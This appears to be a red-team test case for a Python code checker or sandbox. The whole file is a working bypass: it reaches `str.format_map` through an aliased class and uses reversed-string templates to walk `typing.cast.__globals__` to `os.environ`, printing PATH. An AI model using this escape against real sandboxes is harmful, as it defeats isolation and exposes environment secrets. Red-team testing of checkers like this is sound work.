# family: red team, round 30 (library methods that build from self.__class__, read off classes)
# Escalation of rt_005: type(self).copy(int) on M(UserList) gives <class 'type'>; meta("") is the class
# str, kept in a local the checker knows nothing about, so S.format_map(template, ...) with a template
# built at run time is not seen as str.format_map. The template walks typing.cast.__globals__ to sys,
# sys.modules["os"].environ and prints an environment value (and the forbidden module's repr).
from collections import UserList
from typing import cast


class M(UserList):
    def make(self):
        return type(self).copy(int)


def entry():
    meta = M().make()
    s_cls = meta("")
    fmt = s_cls.format_map
    t1 = "".join(reversed("}]so[seludom.]sys[__slabolg__.f{"))
    t2 = "".join(reversed("}]HTAP[norivne.]so[seludom.]sys[__slabolg__.f{"))
    print("module:", fmt(t1, {"f": cast}))
    print("environ PATH:", fmt(t2, {"f": cast}))
    return "done"


entry()
